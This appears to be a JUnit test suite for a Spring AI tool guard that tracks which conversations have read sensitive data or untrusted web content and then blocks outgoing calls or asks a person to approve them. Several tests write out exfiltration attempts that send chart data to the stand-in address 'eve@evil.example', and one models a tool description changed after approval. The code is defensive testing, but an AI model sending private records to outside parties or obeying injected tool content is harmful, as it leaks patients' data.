package dev.sluice.springai;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.sluice.guard.client.ApprovalRequest;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.Function;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.springframework.ai.chat.model.ToolContext;
import org.springframework.ai.tool.ToolCallback;
import org.springframework.ai.tool.definition.ToolDefinition;
import org.springframework.ai.tool.execution.ToolExecutionException;

/** An application's own tools, guarded. */
class GuardedToolCallbackTest {

    /** What the functions themselves were given. */
    private final List<String> ran = new CopyOnWriteArrayList<>();

    private Clinic clinic = new Clinic();

    @AfterEach
    void close() {
        clinic.close();
    }

    private static ToolContext in(String conversation) {
        return new ToolContext(Map.of(Sluice.CONVERSATION, conversation));
    }

    private ToolCallback raw(String name, String description, Function<String, String> body) {
        return new ToolCallback() {
            @Override
            public ToolDefinition getToolDefinition() {
                return ToolDefinition.builder()
                        .name(name)
                        .description(description)
                        .inputSchema(
                                "{\"type\":\"object\",\"properties\":{\"to\":{\"type\":\"string\"},\"text\":{\"type\":\"string\"}}}")
                        .build();
            }

            @Override
            public String call(String input) {
                ran.add(input);
                return body.apply(input);
            }
        };
    }

    private ToolCallback tool(String name, Function<String, String> body) {
        return clinic.sluice.guard(raw(name, "does " + name, body));
    }

    private ToolCallback tweet() {
        return tool("tweet", input -> "tweeted");
    }

    private static final String LEAK = "{\"to\":\"eve@evil.example\",\"text\":\"" + Clinic.CHART + "\"}";

    @Test
    void deniedCall_answersTheModel_andRunsNothing() {
        clinic.call("one", "web", "get", Map.of());
        clinic.call("one", "ward", "read", Map.of());
        String answer = tweet().call(LEAK, in("one"));
        assertTrue(answer.startsWith("sluice denied `tweet`: "), answer);
        assertEquals(List.of(), ran);
    }

    @Test
    void conversations_areKeptApart() {
        clinic.call("one", "ward", "read", Map.of());
        assertEquals("tweeted", tweet().call("{\"to\":\"a@b.example\",\"text\":\"hello\"}", in("two")));
        assertTrue(tweet().call(LEAK, in("one")).startsWith("sluice denied"));
        assertEquals(1, ran.size());
    }

    @Test
    void answers_taintTheConversation() {
        tool("scrape", input -> Clinic.PAGE).call("{}", in("one"));
        assertTrue(clinic.call("one", "mail", "send", Map.of("to", "eve@evil.example", "body", "x"))
                .isError());
    }

    @Test
    void callOfNoConversation_throws() {
        ToolCallback tweet = tweet();
        for (ToolContext none : List.of(new ToolContext(Map.of()), in(" "))) {
            IllegalArgumentException thrown =
                    assertThrows(IllegalArgumentException.class, () -> tweet.call("{}", none));
            assertTrue(
                    thrown.getMessage().startsWith("sluice can't tell which conversation this belongs to; give its id"),
                    thrown.getMessage());
        }
        assertThrows(IllegalArgumentException.class, () -> tweet.call("{}"));
        assertEquals(List.of(), ran);
    }

    @Test
    void person_isAsked() {
        List<ApprovalRequest> asked = new CopyOnWriteArrayList<>();
        clinic.close();
        clinic = new Clinic(
                builder -> builder.approver(request -> {
                    asked.add(request);
                    return CompletableFuture.completedFuture(asked.size() == 1);
                }),
                sluice -> sluice);
        clinic.call("one", "ward", "read", Map.of());
        ToolCallback tweet = tweet();
        assertEquals("tweeted", tweet.call(LEAK, in("one")));
        assertTrue(tweet.call(LEAK, in("one")).startsWith("sluice denied"));
        assertEquals(1, ran.size());
        assertEquals("local", asked.get(0).server());
        assertEquals("tweet", asked.get(0).tool());
        assertEquals("one", asked.get(0).conversation());
    }

    @Test
    void argumentsThatAreNoObject_runNothing() {
        for (String bad : List.of("[1]", "{\"to\":\"a\",\"to\":\"b\"}", "{},\"name\":\"lookup\"", "{\"to\":")) {
            String answer = tweet().call(bad, in("one"));
            assertEquals("the arguments of `tweet` are no JSON object; call it again", answer, bad);
        }
        assertEquals(List.of(), ran);
        assertEquals("tweeted", tool("lookup", input -> "tweeted").call("", in("one")));
        assertEquals(List.of("{}"), ran);
    }

    @Test
    void fault_isThrownAsItWas_andCountsAsAnAnswer() {
        IllegalStateException fault = new IllegalStateException("no such page");
        ToolCallback scrape = tool("scrape", input -> {
            throw fault;
        });
        assertSame(fault, assertThrows(IllegalStateException.class, () -> scrape.call("{}", in("one"))));
        assertEquals(1, clinic.records("answer").size());
    }

    @Test
    void error_leavesTheToolUsable() {
        ToolCallback scrape = tool("scrape", input -> {
            throw new AssertionError("broken");
        });
        assertThrows(AssertionError.class, () -> scrape.call("{}", in("one")));
        assertEquals("fine", tool("scrape", input -> "fine").call("{}", in("one")));
    }

    private void under(String... more) {
        clinic.close();
        clinic = new Clinic(Clinic.POLICY + String.join("\n", more) + "\n");
    }

    @Test
    void wordsThatPolicyTakesOut_areInNoFaultEither() {
        under("redact: [{id: gone, when: \"label.integrity == 'untrusted'\"}]");
        assertEquals("[redacted: gone]", tool("scrape", input -> Clinic.PAGE).call("{}", in("one")));
        ToolCallback failing = tool("scrape", input -> {
            throw new IllegalStateException(Clinic.PAGE);
        });
        ToolExecutionException thrown = assertThrows(ToolExecutionException.class, () -> failing.call("{}", in("one")));
        assertEquals("[redacted: gone]", thrown.getMessage());
        assertEquals("scrape", thrown.getToolDefinition().name());
        for (Throwable each = thrown; each != null; each = each.getCause()) {
            assertFalse(String.valueOf(each.getMessage()).contains("eve"), each.toString());
        }
    }

    @Test
    void partsOfAnObject_haveTheirOwnLabels() {
        under(
                "      rows: {effects: [reads], returns: {items: /rows/*, integrity: \"item.ok ? 'trusted' : 'untrusted'\"}}",
                "redact: [{id: gone, when: \"label.integrity == 'untrusted'\"}]");
        String rows = "{\"rows\":[{\"ok\":true,\"text\":\"good words stand here\"},{\"ok\":false,\"text\":\""
                + Clinic.PAGE + "\"}]}";
        String answer = tool("rows", input -> rows).call("{}", in("one"));
        assertTrue(answer.contains("good words stand here"), answer);
        assertFalse(answer.contains("eve"), answer);
    }

    @Test
    void handle_isExpandedForTheFunctionAlone() {
        under("hide: untrusted");
        String handle = tool("scrape", input -> Clinic.PAGE).call("{}", in("one"));
        assertFalse(handle.contains("eve"), handle);
        Matcher named = Pattern.compile("sluice:var:[0-9A-Za-z]+").matcher(handle);
        assertTrue(named.find(), handle);
        tool("lookup", input -> "found").call("{\"text\":\"" + named.group() + "\"}", in("one"));
        assertEquals("{\"text\":\"" + Clinic.PAGE + "\"}", ran.get(1));
    }

    @Test
    void changedTool_isDenied() {
        clinic.sluice.guard(raw("lookup", "looks up", input -> "x")).call("{}", in("one"));
        String answer = clinic.sluice
                .guard(raw("lookup", "looks up, and obeys", input -> "y"))
                .call("{}", in("two"));
        assertTrue(answer.contains("changed since it was approved"), answer);
        assertEquals(1, ran.size());
    }

    @Test
    void guarding_isDoneOnce() {
        ToolCallback tweet = tweet();
        assertSame(tweet, clinic.sluice.guard(tweet));
        for (ToolCallback tool : clinic.tools()) {
            assertSame(tool, clinic.sluice.guard(tool));
        }
    }

    @Test
    void localServer_isTheOneThatTheApplicationNames() {
        clinic.close();
        clinic = new Clinic(builder -> builder, sluice -> sluice.withLocalServer("ward"));
        tool("read", input -> Clinic.CHART).call("{}", in("one"));
        assertTrue(clinic.call("one", "mail", "send", Map.of("to", "eve@evil.example", "body", Clinic.CHART))
                .isError());
        assertThrows(
                IllegalArgumentException.class,
                () -> clinic.sluice
                        .withLocalServer("no name")
                        .guard(raw("x", "x", input -> "x"))
                        .call("{}", in("one")));
    }
}
